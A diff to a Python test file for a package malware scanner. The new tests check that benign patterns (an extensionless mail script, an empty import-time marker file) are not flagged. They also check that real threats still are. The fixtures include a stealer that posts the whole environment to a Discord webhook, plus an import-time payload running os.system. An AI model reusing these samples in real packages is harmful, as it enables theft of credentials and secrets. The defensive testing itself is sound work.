@@ -5,7 +5,10 @@ that must stay high:
 * strings shaped like wallet addresses that fail their checksum (hashes, type names) in a
   web bundle are no hard-coded wallets;
 * a Unix-domain socket wired to stdout/stderr forwards logs on this machine: no remote shell;
-* a RECORD that writes its sha256 digests in hex instead of base64 still matches its files.
+* a RECORD that writes its sha256 digests in hex instead of base64 still matches its files;
+* an extension-less script (a python shebang, ``scripts=``) runs when a user types it, not
+  on import;
+* an empty marker file created on import carries no payload.
 """
 
 from __future__ import annotations
@@ -15,7 +18,7 @@ import hashlib
 
 from app.core.archive import open_artifact
 from app.core.capabilities.scan import scan_artifact
-from tests.core.archive.fixtures import make_wheel, wheel_entries, zip_bytes
+from tests.core.archive.fixtures import make_sdist, make_wheel, wheel_entries, zip_bytes
 
 HIGH = ("high", "critical")
 
@@ -162,3 +165,89 @@ def test_a_file_changed_after_a_hex_or_base64_record_stays_a_mismatch(tmp_path):
         res = _record_wheel(tmp_path / str(i), encode, tamper=True)
         assert "mismatch.record" in _ids(res)
         assert res.risk.level in HIGH
+
+
+MAIL_SCRIPT = b"""#!/usr/bin/env python
+import getopt
+import os
+import smtplib
+import sys
+
+opts, args = getopt.getopt(sys.argv[1:], "f:s:")
+fromaddr = os.getlogin() + "@" + os.getenv("HOSTNAME", "localhost")
+for o, a in opts:
+    if o == "-f":
+        fromaddr = a
+if len(args) < 2:
+    sys.stderr.write("usage: mailit [-f from] file recipients...\\n")
+    sys.exit(2)
+body = open(args[0]).read()
+server = smtplib.SMTP("localhost")
+server.sendmail(fromaddr, args[1:], body)
+server.quit()
+"""
+
+
+def test_an_extensionless_command_script_does_not_run_on_import(tmp_path):
+    """A tool installed by ``scripts=["mailit/mailit"]``: a python shebang, no ``.py``, so
+    Python never imports it; its top level runs when a user types the command (mailing a
+    file from the user's login name), like a ``__main__`` block."""
+    sdist = make_sdist(tmp_path, name="gizmo", files={"mailit/mailit": MAIL_SCRIPT})
+    res = scan_artifact(open_artifact(sdist))
+    assert any(h.path.endswith("mailit/mailit") for h in res.findings)  # still read and shown
+    assert not {"place.import_time", "chain.exfiltration"} & _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_the_same_top_level_code_in_a_module_stays_an_import_time_act(tmp_path):
+    """Named ``mailit.py`` inside the package, the same code runs on import; and the
+    extension-less script that sends the environment to a webhook stays a stealer."""
+    sdist = make_sdist(tmp_path, name="gizmo", files={"gizmo/mailit.py": MAIL_SCRIPT})
+    res = scan_artifact(open_artifact(sdist))
+    assert {"place.import_time", "chain.exfiltration"} & _ids(res)
+    assert res.risk.level in HIGH
+    stealer = (
+        b"#!/usr/bin/env python\nimport os, json, urllib.request\n"
+        b"data = json.dumps(dict(os.environ)).encode()\n"
+        b"urllib.request.urlopen('https://discord.com/api/webhooks/1/x', data=data)\n"
+    )
+    (tmp_path / "b").mkdir()
+    sdist = make_sdist(tmp_path / "b", name="gizmo", files={"bin/gizmo-sync": stealer})
+    res = scan_artifact(open_artifact(sdist))
+    assert "chain.exfiltration" in _ids(res)
+    assert res.risk.level in HIGH
+
+
+MARKER = b"""import os
+import tempfile
+
+_deps = os.path.join(tempfile.gettempdir(), "gizmo-deps")
+_marker = os.path.join(_deps, ".installed")
+if not os.path.exists(_marker):
+    os.makedirs(_deps, exist_ok=True)
+    open(_marker, "w").close()
+"""
+
+
+def test_an_empty_marker_file_written_on_import_is_no_import_time_act(tmp_path):
+    """Creating an empty file (``open(p, "w").close()``, ``with open(p, "w"): pass``) marks
+    that a step was done: no payload is written with it."""
+    with_pass = MARKER.replace(
+        b'open(_marker, "w").close()', b'with open(_marker, "w"):\n        pass'
+    )
+    for i, code in enumerate((MARKER, with_pass)):
+        (tmp_path / str(i)).mkdir()
+        res = _wheel(tmp_path / str(i), {"gizmo/__init__.py": code})
+        writes = [h for h in res.findings if h.capability == "fs.write_outside"]
+        assert writes and all(h.severity == "medium" for h in writes)
+        assert "place.import_time" not in _ids(res)
+        assert res.risk.level not in HIGH
+
+
+def test_a_marker_path_written_with_content_on_import_stays_an_import_time_act(tmp_path):
+    payload = MARKER.replace(
+        b'open(_marker, "w").close()', b'open(_marker, "w").write(PAYLOAD)'
+    ).replace(b"import tempfile\n", b"import tempfile\nPAYLOAD = 'import os; os.system(\"id\")'\n")
+    res = _wheel(tmp_path, {"gizmo/__init__.py": payload})
+    assert "place.import_time" in _ids(res)
+    assert res.risk.level in HIGH
